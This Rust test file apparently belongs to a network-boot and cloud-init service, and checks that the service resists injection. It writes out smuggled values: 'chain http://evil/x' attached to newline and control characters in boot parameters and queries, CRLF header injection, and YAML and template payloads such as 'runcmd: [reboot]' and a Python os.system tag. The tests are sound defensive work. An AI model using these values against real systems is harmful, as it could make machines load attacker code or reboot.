//! Text that would be more than text where it is shown: in an iPXE script, in cloud-init's YAML, in a log, in a header.

use serde_json::json;

use crate::common::two_nodes::{NODE, SCRIPT};
use crate::site::Site;

/// What ends a line for iPXE, YAML, HTTP or a terminal.
const BREAKS: [&str; 6] = ["\n", "\r", "\r\n", "\0", "\u{b}", "\u{1b}[2J"];
const EVIL: &str = "chain http://evil/x";

/// Every way to put it: verb, path and body with `{}` for the text.
fn places(text: &str) -> Vec<(&'static str, &'static str, serde_json::Value)> {
    vec![
        (
            "POST",
            "/boot/v1/bootparameters",
            json!({"hosts": [text], "kernel": "http://x/k"}),
        ),
        (
            "PUT",
            "/boot/v1/bootparameters",
            json!({"hosts": [NODE], "kernel": "http://x/k", "params": text}),
        ),
        (
            "PUT",
            "/boot/v1/bootparameters",
            json!({"hosts": [NODE], "kernel": text}),
        ),
        (
            "PUT",
            "/boot/v1/bootparameters",
            json!({"hosts": [NODE], "kernel": "http://x/k", "initrd": text}),
        ),
        (
            "POST",
            "/hsm/v2/State/Components",
            json!({"Components": [{"ID": text, "State": "On"}]}),
        ),
        (
            "POST",
            "/hsm/v2/Inventory/EthernetInterfaces",
            json!({"MACAddress": text, "ComponentID": NODE}),
        ),
        (
            "POST",
            "/hsm/v2/groups",
            json!({"label": text, "members": {"ids": [NODE]}}),
        ),
        ("POST", "/hsm/v2/partitions", json!({"name": text})),
        (
            "POST",
            "/hsm/v2/Subscriptions/SCN",
            json!({"Subscriber": "a", "Url": format!("http://10.0.0.1/{text}"), "States": ["On"]}),
        ),
    ]
}

#[test]
fn no_name_and_no_parameter_is_more_than_one_line() {
    let site = Site::start(1, false);
    let script = || {
        let (status, script) = site.get(site.node(1), SCRIPT, "");
        assert_eq!(status, 200, "{script}");
        script
    };
    assert!(script().contains("quiet"), "{}", script());
    for end in BREAKS {
        let text = format!("quiet{end}{EVIL}");
        for (verb, path, body) in places(&text) {
            let answer = site.admin(verb, path, &body.to_string());
            assert_eq!(answer.status, 400, "{verb} {path} {body}: {answer:?}");
            // nor is it more than text in the answer that quotes it
            assert!(!answer.body.contains(&text), "{verb} {path}: {answer:?}");
        }
        let script = script();
        assert!(!script.contains("evil"), "{script}");
    }
}

/// In a query, encoded: what comes back is a script or a document, and none of it is the attacker's.
#[test]
fn what_a_node_asks_is_not_written_into_its_script() {
    let site = Site::start(1, false);
    let from = site.node(9);
    for end in ["%0a", "%0d%0a", "%00", "%0b", "%1b", "%e2%80%a8", "%c2%85"] {
        for query in ["mac", "name", "nid", "arch", "ts", "retry"] {
            let path =
                format!("/boot/v1/bootscript?mac=02:09:09:09:09:09&{query}=x{end}chain%20http://evil/x");
            let (status, answer) = site.get(from, &path, "");
            assert!(
                status != 0
                    && answer
                        .lines()
                        .all(|line| !line.trim_start().starts_with("chain http://evil")),
                "{path}: {answer}"
            );
        }
        for header in ["X-Evil", "Location", "Set-Cookie"] {
            let path = format!("/no/such/route{end}{header}:%20a");
            let (status, answer) = site.get(from, &path, "");
            let head = answer.split("\r\n\r\n").next().unwrap().to_lowercase();
            assert!(status >= 400, "{path}: {answer}");
            assert!(
                !head.contains(&format!("\n{}: a", header.to_lowercase())),
                "{answer}"
            );
        }
    }
}

/// Values of meta-data are the site's own text, with lines if it likes; none of them becomes a key or a template's result.
#[test]
fn meta_data_is_text_and_no_yaml_and_no_template() {
    let site = Site::start(1, false);
    let values = [
        "v\nruncmd: [reboot]",
        "v: {a: b}",
        "- a\n- b",
        "#cloud-config\nruncmd: [reboot]",
        "{{ 7*7 }}",
        "${7*7}",
        "!!python/object/apply:os.system ['reboot']",
        "*alias",
        "&anchor a",
        "yes",
        "0o17",
        "\"",
        "'",
        "\\x41",
        "---\n...",
    ];
    for value in values {
        let body = json!({"name": "own", "meta-data": {"note": value}});
        let answer = site.admin("PUT", "/cloud-init/admin/groups/own", &body.to_string());
        if !(200..300).contains(&answer.status) {
            assert_eq!(answer.status, 400, "{value:?}: {answer:?}");
            continue;
        }
        let (status, answer) = site.get(site.node(1), "/cloud-init/meta-data", "");
        assert_eq!(status, 200, "{answer}");
        let document = answer.split_once("\r\n\r\n").unwrap().1;
        for line in document.lines() {
            // what is indented or quoted is part of the value
            assert!(!line.starts_with("runcmd:"), "{value:?}: {document}");
            assert!(!line.starts_with("#cloud-config"), "{value:?}: {document}");
            let is_worked_out = line.contains("note") && line.contains("49");
            assert!(!is_worked_out, "{value:?}: {document}");
        }
    }
}
